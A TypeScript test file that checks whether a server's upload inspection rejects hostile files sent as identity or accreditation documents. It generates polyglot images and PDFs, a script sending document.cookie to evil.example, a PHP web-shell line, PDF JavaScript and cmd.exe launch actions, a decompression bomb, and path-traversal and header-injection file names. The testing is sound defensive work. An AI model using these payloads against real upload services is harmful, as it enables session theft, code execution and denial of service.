import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { evidenceTypes } from '#business/accreditation/rules/evidence-file.ts'
import { documentFileTypes, refuseDocument } from '#business/identity/rules/identity-document.ts'
import { inspectFile } from '#io/files/inspect-file.ts'
import { jpegOf, pdfOf, pngChunk, pngMagic, pngOf } from '#tests/setup/files.ts'
import { seeded } from './cash-world.ts'
import { counts, seed } from './counts.ts'

type Hostile = { readonly what: string; readonly fileName: string; readonly bytes: Buffer }
type Chance = () => number

const joined = (...parts: (Buffer | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))
const script = '<script>fetch("https://evil.example/"+document.cookie)</script>'
const zip = joined('PK\x03\x04', Buffer.alloc(30), 'evil.js', script)
const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
/** A PDF with one more object in it. */
const pdfWith = (object: string | Buffer): Buffer => {
  const plain = pdfOf('Statement')
  const at = plain.indexOf('xref')
  return joined(plain.subarray(0, at), '6 0 obj\n', object, '\nendobj\n', plain.subarray(at))
}
const packed = (dictionary: string, content: string | Buffer): Buffer => {
  const body = deflateSync(Buffer.from(content))
  return joined(`<< ${dictionary} /Length ${body.length} >>\nstream\n`, body, '\nendstream')
}
const bomb = deflateSync(Buffer.alloc(220 * 1024 * 1024))
const jsObject = '<< /S /JavaScript /JS (app.alert(1)) >>'
const hexed = (name: string, chance: Chance): string =>
  [...name].map((character) => (chance() < 0.5 ? `#${character.charCodeAt(0).toString(16)}` : character)).join('')

/** Computing time of this process since a moment, all its threads together: a busy machine makes nothing slower by it. */
const cpuMs = (since: NodeJS.CpuUsage): number => {
  const { user, system } = process.cpuUsage(since)
  return (user + system) / 1000
}

/** The families of files that someone who means harm sends; each differs a little each time. */
const families: readonly ((n: number, chance: Chance) => Hostile)[] = [
  (n) => ({ what: 'JPEG and ZIP', fileName: `w2-${n}.jpg`, bytes: joined(jpegOf({ coded: n }), zip) }),
  (n) => ({ what: 'JPEG and HTML', fileName: `w2-${n}.jpeg`, bytes: joined(jpegOf({ coded: n }), `<html>${script}`) }),
  (n) => ({ what: 'script in a JPEG’s comment', fileName: `c${n}.jpg`, bytes: jpegOf({ comment: `${n}*/${script}` }) }),
  (n) => ({ what: 'PDF in a JPEG’s comment', fileName: `d${n}.jpg`, bytes: jpegOf({ comment: `%PDF-1.4 ${n}` }) }),
  (n) => ({
    what: 'PNG and PHP',
    fileName: `s${n}.png`,
    bytes: joined(pngOf({ shade: n % 255 }), `<?php system($_GET[${n}]); ?>`),
  }),
  (n) => ({ what: 'PNG and ZIP', fileName: `s${n}.png`, bytes: joined(pngOf({ shade: n % 255 }), zip) }),
  (n) => ({
    what: 'script in a PNG’s text',
    fileName: `t${n}.png`,
    bytes: pngOf({ chunks: [pngChunk('tEXt', Buffer.from(`Comment\0${n}${script}`))] }),
  }),
  (n) => ({
    what: 'packed text in a PNG',
    fileName: `z${n}.png`,
    bytes: pngOf({ chunks: [pngChunk('zTXt', joined('Comment\0\0', deflateSync(Buffer.alloc(100_000 + n))))] }),
  }),
  (n) => ({ what: 'SVG', fileName: `logo${n}.svg`, bytes: joined(svg, String(n)) }),
  (n) => ({ what: 'SVG called PNG', fileName: `logo${n}.png`, bytes: joined(svg, String(n)) }),
  (n) => ({ what: 'SVG behind a PNG’s magic', fileName: `logo${n}.png`, bytes: joined(pngMagic, svg, String(n)) }),
  (n) => ({ what: '20,000 pixels, PNG', fileName: `big${n}.png`, bytes: pngOf({ width: 20_000, height: 1 + n }) }),
  (n) => ({ what: '20,000 pixels, JPEG', fileName: `big${n}.jpg`, bytes: jpegOf({ width: 1 + n, height: 20_000 }) }),
  (n) => ({
    what: 'more area than any phone',
    fileName: `area${n}.png`,
    bytes: pngOf({ width: 11_999, height: 11_000 + (n % 900) }),
  }),
  (n) => ({
    what: '20,000 pixels, PDF',
    fileName: `big${n}.pdf`,
    bytes: pdfWith(`<< /Type /XObject /Subtype /Image /Width 20000 /Height ${n + 1} >>`),
  }),
  (n) => ({ what: 'over 10 MB', fileName: `large${n}.pdf`, bytes: Buffer.alloc(10 * 1024 * 1024 + 1 + n) }),
  (n) => ({ what: 'nothing', fileName: `empty${n}.pdf`, bytes: Buffer.alloc(0) }),
  (n, chance) => ({
    what: 'wrong magic',
    fileName: `${n}.${['pdf', 'png', 'jpg'][n % 3]}`,
    bytes: Buffer.from(Array.from({ length: 400 }, () => Math.floor(chance() * 256))),
  }),
  (n) => ({
    what: 'program called PDF',
    fileName: `setup${n}.pdf`,
    bytes: joined('MZ\x90\0', Buffer.alloc(400 + n), '%PDF-1.4 %%EOF'),
  }),
  (n) => ({ what: 'PNG called PDF', fileName: `scan${n}.pdf`, bytes: pngOf({ shade: n % 255 }) }),
  (n) => ({
    what: 'an ending that we do not take',
    fileName: `scan${n}.${['html', 'pdf.exe', 'gif', 'pdf ', 'svgz', 'docx'][n % 6]}`,
    bytes: pdfOf(String(n)),
  }),
  (n) => ({
    what: 'a path for a name',
    fileName: [
      `../../etc/cron.d/${n}.pdf`,
      `..\\..\\${n}.pdf`,
      `/etc/${n}.pdf`,
      `C:${n}.pdf`,
      `.htaccess${n}.pdf`,
      `a\0${n}.pdf`,
      `a\r\nSet-Cookie: ${n}.pdf`,
      `\u202efdp.${n}.pdf`,
      `${'a'.repeat(300)}${n}.pdf`,
    ][n % 9]!,
    bytes: pdfOf(String(n)),
  }),
  (n) => ({ what: 'PDF that runs JavaScript', fileName: `form${n}.pdf`, bytes: pdfWith(jsObject) }),
  (n, chance) => ({
    what: 'the same, spelled in hex',
    fileName: `form${n}.pdf`,
    bytes: pdfWith(`<< /S /${hexed('JavaScript', chance)} /${hexed('JS', chance)} (1) >>`),
  }),
  (n) => ({
    what: 'the same, packed',
    fileName: `form${n}.pdf`,
    bytes: pdfWith(packed('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', `7 0 ${jsObject}`)),
  }),
  (n) => ({
    what: 'the same, packed twice',
    fileName: `form${n}.pdf`,
    bytes: pdfWith(packed('/Type /ObjStm /Filter [/FlateDecode /FlateDecode]', deflateSync(Buffer.from(jsObject)))),
  }),
  (n) => ({
    what: 'objects packed otherwise',
    fileName: `form${n}.pdf`,
    bytes: pdfWith('<< /Type /ObjStm /Filter /ASCIIHexDecode >>\nstream\n2f4a53>\nendstream'),
  }),
  (n) => ({
    what: 'PDF that starts a program',
    fileName: `run${n}.pdf`,
    bytes: pdfWith('<< /S /Launch /F (cmd.exe) >>'),
  }),
  (n) => ({ what: 'PDF with a file in it', fileName: `box${n}.pdf`, bytes: pdfWith('<< /Type /EmbeddedFile >>') }),
  (n) => ({ what: 'PDF behind a password', fileName: `lock${n}.pdf`, bytes: pdfWith('<< /Encrypt 9 0 R >>') }),
  (n) => ({
    what: 'PDF and HTML',
    fileName: `page${n}.pdf`,
    bytes: joined('%PDF-1.4\n', `<html>${script}</html>`, pdfOf(String(n)).subarray(9)),
  }),
  (n) => ({ what: 'PDF and ZIP', fileName: `page${n}.pdf`, bytes: joined(pdfOf(String(n)), zip, Buffer.alloc(80)) }),
  (n) => ({
    what: 'a bomb in a PDF',
    fileName: `bomb${n}.pdf`,
    bytes: pdfWith(joined(`<< /N ${n} /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`, bomb, '\nendstream')),
  }),
]

/** Whether the server's check before it keeps a file accepts it. */
const accepts = async ({ fileName, bytes }: Hostile): Promise<boolean> =>
  !('fault' in (await inspectFile({ fileName, bytes }, evidenceTypes)))

/** The same for identity documents, a person's and a business's: these go on to the payment partner. */
async function passesOn({ fileName, bytes }: Hostile): Promise<boolean> {
  for (const type of ['passport', 'other'])
    if (
      refuseDocument({ type, fileName, bytes }, 'document', 'personAndBusiness') === null &&
      !('fault' in (await inspectFile({ fileName, bytes }, documentFileTypes(type))))
    )
      return true
  return false
}

describe('Z12: uploads', () => {
  it(`takes none of ${counts.Z12} hostile files (seed ${seed})`, async () => {
    const chance = seeded(seed)
    const wrongly = new Set<string>()
    const slow = new Set<string>()
    for (let n = 0; n < counts.Z12; n += 1) {
      const family = n % families.length
      // A bomb costs a quarter of a second to defuse, so it comes a few times only.
      const hostile = families[family === families.length - 1 && n > 60 ? n % 20 : family]!(n, chance)
      const began = process.cpuUsage()
      if (await accepts(hostile)) wrongly.add(hostile.what)
      if (cpuMs(began) > 4_000) slow.add(hostile.what)
      if (await passesOn(hostile)) wrongly.add(hostile.what)
    }
    expect({ wrongly: [...wrongly], slow: [...slow] }).toEqual({ wrongly: [], slow: [] })
  })

  it('takes what people really send', async () => {
    const image = packed(
      '/Type /XObject /Subtype /Image /Width 2480 /Height 3508 /Filter /FlateDecode',
      Buffer.alloc(50_000, 3),
    )
    const objects = packed('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', '7 0 << /Type /Font >>')
    const good: readonly Hostile[] = [
      { what: 'PDF', fileName: 'W-2 2025 (copy).pdf', bytes: pdfOf('W-2') },
      { what: 'scan', fileName: 'scan.PDF', bytes: pdfWith(image) },
      { what: 'packed objects', fileName: 'modern.pdf', bytes: pdfWith(objects) },
      { what: 'PNG', fileName: 'Bildschirmfoto 2026-01-05.png', bytes: pngOf({ width: 1_170, height: 2_532 }) },
      { what: 'JPEG', fileName: 'IMG_0001.JPG', bytes: jpegOf({ width: 4_032, height: 3_024 }) },
      {
        what: 'JPEG of 108 megapixels',
        fileName: '20260105_120000.jpg',
        bytes: jpegOf({ width: 12_000, height: 9_000 }),
      },
    ]
    for (const file of good)
      expect([file.what, await accepts(file), await passesOn(file)]).toEqual([file.what, true, true])
  })

  it('is not slowed down by files made to be slow to read', async () => {
    for (const unit of ['>>stream\n', '<<', '>> ', 'stream', '/#', '%PDF-', '<script', '#4a', 'obj<<>>stream\r\n']) {
      const bytes = joined('%PDF-1.4\n', Buffer.alloc(3_000_000, unit), '\n%%EOF\n')
      const began = process.cpuUsage()
      await accepts({ what: unit, fileName: 'slow.pdf', bytes })
      expect(cpuMs(began), unit).toBeLessThan(6_000)
    }
  })
})
